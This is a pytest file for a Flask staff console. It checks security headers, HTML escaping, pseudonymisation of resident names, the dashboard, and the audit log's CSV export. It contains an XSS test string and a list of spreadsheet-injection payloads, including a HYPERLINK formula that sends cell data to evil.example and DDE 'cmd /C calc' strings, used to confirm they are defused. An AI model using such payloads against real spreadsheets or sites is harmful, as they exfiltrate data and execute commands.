"""Console pages: escaping of public-written text, overlong input, pseudonymisation,
the dashboard's figures, the audit log and its CSV, and the security headers."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from datetime import timedelta

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import event, select

from bot.attributes import set_attribute
from bot.console import CONTENT_SECURITY_POLICY
from bot.residents import lock_resident, record_follow, record_unfollow
from models import AuditEntry, Resident, Role, Staff
from models.base import utcnow
from tests.conftest import ResidentRowFactory
from tests.console.conftest import StaffFactory, csrf_token, post_form, sign_in
from tests.support import PASSWORD

SCRIPT = '<script>alert("x")</script><img src=x onerror=alert(1)>'


def add_resident(app: Flask, name: str, *, days_ago: int = 0, blocked: bool = False) -> int:
    with app.extensions["db"].unit_of_work() as session:
        resident = lock_resident(session, "U" + format(abs(hash(name)), "032x")[:32])
        resident.display_name = name
        record_follow(resident, is_unblocked=False, at=utcnow() - timedelta(days=days_ago))
        if blocked:
            record_unfollow(resident, at=utcnow())
        return resident.id


def test_security_headers(client: FlaskClient) -> None:
    response = client.get("/admin/signin")
    assert response.headers["Content-Security-Policy"] == CONTENT_SECURITY_POLICY
    assert "'unsafe-inline'" not in CONTENT_SECURITY_POLICY
    assert response.headers["X-Frame-Options"] == "DENY"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    [cookie] = [
        c for c in response.headers.getlist("Set-Cookie") if c.startswith("madoguchi_session=")
    ]
    assert "HttpOnly" in cookie
    assert "SameSite=Lax" in cookie


def test_no_inline_script_or_style_anywhere(
    client: FlaskClient, signed_in: Callable[..., Staff]
) -> None:
    signed_in(Role.ADMIN)
    for path in ("/admin/", "/admin/residents", "/admin/audit", "/admin/staff", "/admin/account"):
        html = client.get(path).get_data(as_text=True)
        assert " style=" not in html
        assert " onclick=" not in html
        for chunk in html.split("<script")[1:]:
            head = chunk.split(">", 1)[0]
            assert "src=" in head or 'type="application/json"' in head, path


def test_public_text_is_rendered_inert(
    app: Flask, client: FlaskClient, signed_in: Callable[..., Staff], staff_factory: StaffFactory
) -> None:
    add_resident(app, SCRIPT)
    staff_factory(Role.VIEWER, name=SCRIPT)
    signed_in(Role.ADMIN)
    for path in ("/admin/residents", "/admin/staff", f"/admin/residents?q={SCRIPT}"):
        html = client.get(path).get_data(as_text=True)
        assert SCRIPT not in html, path
        assert "&lt;script&gt;" in html, path


def test_overlong_and_odd_input_is_refused_cleanly(
    app: Flask, client: FlaskClient, signed_in: Callable[..., Staff]
) -> None:
    signed_in(Role.ADMIN)
    assert client.get("/admin/residents?q=" + "あ" * 10_000).status_code == 200
    assert client.get("/admin/residents?page=abc").status_code == 200
    assert client.get("/admin/audit?from=2026-99-99&to=yesterday").status_code == 200
    response = post_form(
        client,
        "/admin/staff",
        {
            "email": "a" * 300 + "@pref.example.jp",
            "display_name": "x" * 500,
            "roles": "viewer",
            "password": "a long enough password",
        },
        token_from="/admin/staff",
    )
    assert response.status_code == 200  # the form again, with its errors
    bad_role = post_form(
        client,
        "/admin/staff",
        {
            "email": "ok@pref.example.jp",
            "display_name": "ok",
            "roles": "overlord",
            "password": "a long enough password",
        },
        token_from="/admin/staff",
    )
    assert bad_role.status_code == 200
    with app.extensions["db"].sessions() as session:
        assert len(session.scalars(select(Staff)).all()) == 1  # only the admin


def test_residents_list_shows_state_language_and_segments(
    app: Flask, client: FlaskClient, signed_in: Callable[..., Staff]
) -> None:
    resident_id = add_resident(app, "x", blocked=True)
    with app.extensions["db"].unit_of_work() as session:
        resident = session.get_one(Resident, resident_id)
        set_attribute(session, resident, "municipality", "前橋市")
        set_attribute(session, resident, "note", SCRIPT)
    signed_in(Role.EDITOR)
    html = client.get("/admin/residents").get_data(as_text=True)
    assert "municipality: 前橋市" in html
    assert "ブロック" in html
    assert SCRIPT not in html


def test_residents_list_loads_segments_without_a_query_per_resident(
    app: Flask,
    client: FlaskClient,
    signed_in: Callable[..., Staff],
    resident_row: ResidentRowFactory,
) -> None:
    signed_in(Role.EDITOR)
    statements: list[str] = []

    def count(*args: object) -> None:
        statements.append(str(args[2]))

    def page_queries() -> int:
        statements.clear()
        event.listen(app.extensions["db"].engine, "before_cursor_execute", count)
        try:
            assert client.get("/admin/residents").status_code == 200
        finally:
            event.remove(app.extensions["db"].engine, "before_cursor_execute", count)
        return len(statements)

    resident_row(attributes={"municipality": "10201", "age_band": "30-39"})
    few = page_queries()
    for n in range(10):
        resident_row(attributes={"municipality": f"1020{n}"})
    assert page_queries() == few
    html = client.get("/admin/residents").get_data(as_text=True)
    assert html.count("municipality: 1020") == 11
    assert "age_band: 30-39" in html


def test_residents_are_pseudonymised_unless_names_are_needed(
    app: Flask,
    client: FlaskClient,
    signed_in: Callable[..., Staff],
    staff_factory: StaffFactory,
) -> None:
    resident_id = add_resident(app, "山田 花子")
    signed_in(Role.EDITOR)
    html = client.get("/admin/residents").get_data(as_text=True)
    assert f"#{resident_id:06d}" in html
    assert "山田" not in html
    searched = client.get("/admin/residents?q=山田").get_data(as_text=True)
    assert "<td>山田" not in searched  # a name search finds nobody without the permission
    assert "該当する住民はいません" in searched
    by_case = client.get(f"/admin/residents?q=%23{resident_id:06d}").get_data(as_text=True)
    assert f"#{resident_id:06d}" in by_case
    admin = app.test_client()

    with app.extensions["db"].unit_of_work() as session:
        from bot.console.users import create_staff

        create_staff(
            session,
            email="boss@pref.example.jp",
            display_name="boss",
            password=PASSWORD,
            roles={Role.ADMIN},
        )
    sign_in(admin, "boss@pref.example.jp")
    assert "山田 花子" in admin.get("/admin/residents?q=山田").get_data(as_text=True)


def test_dashboard_counts_friends_per_day(
    app: Flask, client: FlaskClient, signed_in: Callable[..., Staff]
) -> None:
    add_resident(app, "a", days_ago=3)
    add_resident(app, "b", days_ago=1)
    add_resident(app, "c", blocked=True)
    signed_in(Role.VIEWER)
    html = client.get("/admin/").get_data(as_text=True)
    assert 'id="friends-chart"' in html
    assert '"labels"' in html
    data = html.split('id="friends-data">', 1)[1].split("</script>", 1)[0]
    parsed = json.loads(data)
    assert len(parsed["labels"]) == 30
    friends = parsed["series"][0]["data"]
    assert friends[-1] == 2  # three followed, one blocked today
    assert sum(parsed["series"][1]["data"]) == 3
    assert sum(parsed["series"][3]["data"]) == 1


def test_audit_log_filters_and_exports(
    app: Flask, client: FlaskClient, signed_in: Callable[..., Staff]
) -> None:
    admin = signed_in(Role.ADMIN)
    client.get("/admin/residents")
    page = client.get("/admin/audit?action=signin").get_data(as_text=True)
    assert admin.email in page
    export = client.get("/admin/audit.csv?action=signin")
    assert export.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(export.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[0][:3] == ["at", "actor", "action"]
    assert [r[2] for r in rows[1:]] == ["signin"]
    with app.extensions["db"].sessions() as session:
        assert (
            session.scalars(select(AuditEntry).where(AuditEntry.action == "audit.export"))
            .one()
            .actor_id
            == admin.id
        )


@pytest.mark.parametrize("language", ["en", "ja"])
def test_console_speaks_the_staff_members_language(
    client: FlaskClient, signed_in: Callable[..., Staff], language: str
) -> None:
    signed_in(Role.VIEWER)
    post_form(client, "/admin/account/language", {"language": language})
    html = client.get("/admin/").get_data(as_text=True)
    assert ("Dashboard" if language == "en" else "ダッシュボード") in html


def test_new_staff_member_can_sign_in(
    app: Flask, client: FlaskClient, signed_in: Callable[..., Staff]
) -> None:
    signed_in(Role.ADMIN)
    response = post_form(
        client,
        "/admin/staff",
        {
            "email": "New@pref.example.jp",
            "display_name": "新人",
            "roles": ["editor", "viewer"],
            "password": "a long enough password",
        },
        token_from="/admin/staff",
    )
    assert response.status_code == 302
    with app.extensions["db"].sessions() as session:
        person = session.scalars(select(Staff).where(Staff.email == "new@pref.example.jp")).one()
        assert person.role_set == {Role.EDITOR, Role.VIEWER}

    assert (
        sign_in(app.test_client(), "new@pref.example.jp", "a long enough password").status_code
        == 302
    )


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "\t=1+1",
    "＝1+1",
]


def test_audit_csv_defuses_what_strangers_typed(
    app: Flask, client: FlaskClient, signed_in: Callable[..., Staff]
) -> None:
    stranger = app.test_client()
    stranger.environ_base["HTTP_USER_AGENT"] = "=cmd|' /C calc'!A0"
    for text in FORMULAS:  # typed as the e-mail, without signing in
        token = csrf_token(stranger)
        stranger.post("/admin/signin", data={"email": text, "password": "x", "csrf_token": token})
    signed_in(Role.ADMIN)
    export = client.get("/admin/audit.csv")
    raw = export.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM, for Excel
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8").removeprefix("\ufeff"))))
    assert rows[0] == [
        "at",
        "actor",
        "action",
        "object_type",
        "object_id",
        "detail",
        "remote_addr",
        "user_agent",
    ]
    for row in rows[1:]:
        for cell in row:
            assert cell.lstrip()[:1] not in set("=+-@\t\r＝＋－＠"), row
    failed = [row for row in rows[1:] if row[2] == "signin.failed"]
    assert len(failed) == len(FORMULAS)
    assert {row[7] for row in failed} == {"'=cmd|' /C calc'!A0"}
    details = [json.loads(row[5]) for row in failed]
    assert details.count({"not_an_email": True}) == len(FORMULAS) - 1
    assert details.count({"malformed": ["email"]}) == 1  # the tab: a control character


def test_sign_in_emails_are_normalised_so_the_filter_finds_every_spelling(
    app: Flask, client: FlaskClient, signed_in: Callable[..., Staff]
) -> None:
    for typed in (
        "Staff9@Pref.Example.JP",
        "  ｓｔａｆｆ９＠ｐｒｅｆ.example.jp ",
        "staff9@pref.example.jp",
    ):
        sign_in(app.test_client(), typed, "wrong password")
    sign_in(app.test_client(), "not an address", "wrong password")
    signed_in(Role.ADMIN)
    page = client.get("/admin/audit?actor=ＳＴＡＦＦ9@pref.example.jp").get_data(as_text=True)
    assert page.count("staff9@pref.example.jp") == 3
    with app.extensions["db"].sessions() as session:
        entries = session.scalars(
            select(AuditEntry).where(AuditEntry.action == "signin.failed").order_by(AuditEntry.id)
        ).all()
    assert [e.actor_label for e in entries] == [
        *["staff9@pref.example.jp"] * 3,
        "not an address",
    ]
    assert [e.detail for e in entries] == [{}, {}, {}, {"not_an_email": True}]
    assert all(e.remote_addr == "127.0.0.1" and e.user_agent for e in entries)
